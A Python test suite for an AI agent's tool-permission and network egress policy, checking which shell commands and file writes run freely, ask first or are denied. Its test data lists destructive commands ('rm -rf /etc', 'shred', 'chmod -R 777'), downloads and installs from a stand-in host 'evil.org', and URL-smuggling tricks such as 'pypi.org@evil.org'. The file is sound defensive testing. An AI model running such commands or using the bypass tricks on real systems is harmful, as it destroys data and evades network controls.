"""Which tool calls run, which ask first, and which may not run at all."""

from pathlib import Path

import pytest
from msgspec.structs import replace

from september.brain.agent.concern import Concern
from september.brain.agent.permissions import Allow, Ask, Decision, Deny, Ground, decide
from september.brain.agent.tools import Tool, ToolContext, ToolOutput
from september.brain.channels.events import JsonObject
from september.brain.herald.conversation import ToolDef
from september.brain.security.egress import NetworkPolicy


async def nothing(arguments: JsonObject, context: ToolContext) -> ToolOutput:
    return ToolOutput("")


def tool(name: str, *, requires_permission: bool = False) -> Tool:
    return Tool(ToolDef(name, "", {"type": "object"}), nothing, requires_permission)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "workspace").mkdir()
    return tmp_path / "workspace"


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("read_file", {"path": "/etc/passwd"}),
        ("grep", {"pattern": "x", "path": "/etc"}),
        ("find", {"pattern": "*"}),
        ("knowledge_search", {"query": "x"}),
        ("web_search", {"query": "x"}),
        ("anything.else", {}),
        ("bash", {"command": "git status"}),
        ("write_file", {"path": "new.txt", "content": ""}),
        ("write_file", {"path": "a/b/../c.txt", "content": ""}),
    ],
)
def test_reading_and_work_inside_the_roots_never_ask(
    name: str, arguments: JsonObject, workspace: Path
) -> None:
    assert decide(tool(name), arguments, Ground((), workspace)) == Allow()


def test_a_tool_that_requires_permission_asks_every_time(workspace: Path) -> None:
    careful = tool("read_file", requires_permission=True)
    assert isinstance(decide(careful, {"path": "x"}, Ground((), workspace)), Ask)
    shell = tool("bash", requires_permission=True)
    assert isinstance(decide(shell, {"command": "ls"}, Ground((), workspace)), Ask)


def test_a_dangerous_command_asks_with_its_reason(workspace: Path) -> None:
    decision = decide(tool("bash"), {"command": "rm -rf /etc"}, Ground((), workspace))
    assert decision == Ask(
        "it removes /etc, outside the allowed folders", Concern.REMOVES_OUTSIDE, "rm -rf /etc"
    )


@pytest.mark.parametrize("path", ["/etc/motd", "../out.txt", "link/out.txt"])
def test_writing_outside_the_roots_asks_and_would_grant_that_path_alone(
    path: str, workspace: Path, tmp_path: Path
) -> None:
    (workspace / "link").symlink_to(tmp_path)
    decision = decide(tool("write_file"), {"path": path, "content": "x"}, Ground((), workspace))
    assert isinstance(decision, Ask)
    assert decision.grants == ((workspace / path).resolve(),)


def test_writing_in_a_further_root_is_free(workspace: Path, tmp_path: Path) -> None:
    arguments: JsonObject = {"path": str(tmp_path / "out.txt"), "content": "x"}
    assert decide(tool("write_file"), arguments, Ground((tmp_path,), workspace)) == Allow()


def test_nul_is_denied(workspace: Path) -> None:
    assert isinstance(decide(tool("bash"), {"command": "ls\0"}, Ground((), workspace)), Deny)
    assert isinstance(decide(tool("write_file"), {"path": "a\0b"}, Ground((), workspace)), Deny)


CONCERNS = [
    ("rm -rf /etc", Concern.REMOVES_OUTSIDE),
    ("shred x", Concern.DESTROYS),
    ("chmod -R 777 .", Concern.OPENS_UP),
    ("chown -R me .", Concern.OPENS_UP),
    ("echo x > full.txt", Concern.OVERWRITES),
    ("echo x > /etc/motd", Concern.WRITES_OUTSIDE),
    ("nc example.com 80", Concern.NETWORK),
    ("$X", Concern.UNCLEAR),
]
"""The rules of contract section 8.1, each with a command that falls under it."""


@pytest.mark.parametrize(("command", "concern"), CONCERNS)
def test_every_question_names_the_rule_it_comes_from(
    command: str, concern: Concern, workspace: Path
) -> None:
    (workspace / "full.txt").write_text("content")
    decision = decide(tool("bash"), {"command": command}, Ground((), workspace))
    assert isinstance(decision, Ask)
    assert (decision.concern, decision.subject) == (concern, command)


def test_no_answer_is_remembered_for_what_is_asked_at_every_call(workspace: Path) -> None:
    ground = Ground((), workspace)
    for careful in (
        replace(tool("bash"), requires_permission=True),
        replace(tool("bash"), high_cost=True),
    ):
        for command in ("ls", "rm -rf /etc"):
            decision = decide(careful, {"command": command}, ground)
            assert isinstance(decision, Ask)
            assert decision.subject == ""
    costly = decide(replace(tool("x"), high_cost=True), {}, ground)
    assert isinstance(costly, Ask)
    assert costly.concern is Concern.HIGH_COST


POLICY = NetworkPolicy(("pypi.org", "*.example.com", "10.1.0.0/16", "files.pythonhosted.org"))
REACHABLE = [
    *("curl -sS https://pypi.org/simple", "curl pypi.org", "wget -q https://a.example.com/x.tgz"),
    *("git clone https://git.example.com/x", "git status", "git commit -m 'see https://evil.org'"),
    *("pip install requests", "curl http://10.1.2.3:80/", "ssh me@host.example.com uptime"),
    *("scp x host.example.com:y", "echo https://evil.org", "grep -r https://evil.org .", "ls"),
    *("curl -H 'Host: evil.org' https://pypi.org", "curl https://PyPI.org."),
]
UNREACHABLE = [
    *("curl https://evil.org", "curl evil.org/x", "wget -qO- http://evil.org", "curl $URL"),
    *("curl https://pypi.org https://evil.org", "curl https://pypi.org@evil.org/"),
    *("curl https://pypi.org.evil.org", "curl https://example.com", "git clone git@evil.org:x/y"),
    *("git push", "git pull origin main", "npm install", "ssh evil.org", "rsync -a x evil.org:y"),
    *("curl http://10.2.0.1/", "env curl evil.org", "bash -c 'curl evil.org'", "ping evil.org"),
    *("python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.org\")'",),
    *("sudo wget evil.org", "curl -o new https://evil.org", "dig evil.org", "curl [::1]:80"),
    *("pip install --index-url https://evil.org/simple x", "curl -x http://evil.org pypi.org"),
]


@pytest.mark.parametrize("command", REACHABLE)
def test_hosts_on_the_list_are_reached_without_asking(command: str, workspace: Path) -> None:
    decision = decide(tool("bash"), {"command": command}, Ground((), workspace, POLICY))
    assert decision in (Allow(), decide(tool("bash"), {"command": command}, Ground((), workspace)))


@pytest.mark.parametrize("command", UNREACHABLE)
def test_other_hosts_are_asked_about_once_there_is_a_policy(command: str, workspace: Path) -> None:
    decision = decide(tool("bash"), {"command": command}, Ground((), workspace, POLICY))
    assert isinstance(decision, Ask)


def test_web_fetch_follows_the_policy(workspace: Path) -> None:
    def fetch(url: str, policy: NetworkPolicy | None) -> Decision:
        return decide(tool("web_fetch"), {"url": url}, Ground((), workspace, policy))

    assert fetch("https://evil.org/x", None) == Allow()
    assert fetch("https://pypi.org/x", POLICY) == Allow()
    for url in ("https://evil.org/x", "https://pypi.org@evil.org", "http://[", "pypi.org"):
        assert isinstance(fetch(url, POLICY), Ask), url
